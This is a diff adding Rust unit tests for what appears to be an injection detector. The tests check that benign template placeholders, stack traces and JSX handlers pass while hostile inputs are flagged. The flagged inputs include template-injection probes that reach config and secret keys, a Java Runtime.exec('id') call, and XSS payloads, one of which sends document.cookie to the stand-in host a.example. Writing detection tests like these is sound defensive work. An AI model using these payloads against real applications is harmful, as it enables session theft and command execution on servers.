@@ -328,3 +328,74 @@ fn settings_name_hosts_and_commands() {
         ],
     );
 }
+
+#[test]
+fn templates_hold_places_for_data() {
+    expect(
+        false,
+        &EVERYWHERE,
+        &[
+            "{{ order.total }}",
+            "{{ product.title }} for {{ product.price | money }}",
+            "{{ 'cart.title' | t }}",
+            "{{ config.title }}",
+            "{{ request.body.id }}",
+            "${project.version}",
+            "${{ github.event.pull_request.number }}",
+            "{% for p in products %}{{ p.title }}{% endfor %}",
+            "<%= first_name %>",
+            "{{count}} of {{total}}",
+        ],
+    );
+    expect(
+        true,
+        &EVERYWHERE,
+        &[
+            "{{config}}",
+            "{{ settings.SECRET_KEY }}",
+            "{{ ''.__class__ }}",
+            "{{ x.items() }}",
+            "${7*7}",
+            "{'id'|system}",
+            "{% for k in config.items() %}{{ k }}{% endfor %}",
+        ],
+    );
+}
+
+#[test]
+fn programs_report_their_errors() {
+    expect(
+        false,
+        &EVERYWHERE,
+        &[
+            "java.lang.NullPointerException: null\n\tat com.example.A.b(A.java:4)\n\tat java.lang.Thread.run(Thread.java:8)",
+            "org.hibernate.exception.ConstraintViolationException: could not execute statement",
+            "java.util.concurrent.TimeoutException",
+            "org.springframework.web",
+        ],
+    );
+    let call = "java.io.IOException java.lang.Runtime.getRuntime().exec('id')";
+    expect(true, &EVERYWHERE, &["java.lang.Runtime", call]);
+}
+
+#[test]
+fn components_name_their_handlers() {
+    expect(
+        false,
+        &EVERYWHERE,
+        &[
+            "<Button variant=\"primary\" onClick={save}>Save</Button>",
+            "<Foo onClick={() => setOpen(true)} />",
+            "<p><input type=\"checkbox\" disabled checked> Done</p>",
+        ],
+    );
+    expect(
+        true,
+        &EVERYWHERE,
+        &[
+            "<img src=x onerror={alert(1)}>",
+            "';new Image().src='//a.example/?'+document.cookie;//",
+            "\";location.href='//a.example'//",
+        ],
+    );
+}
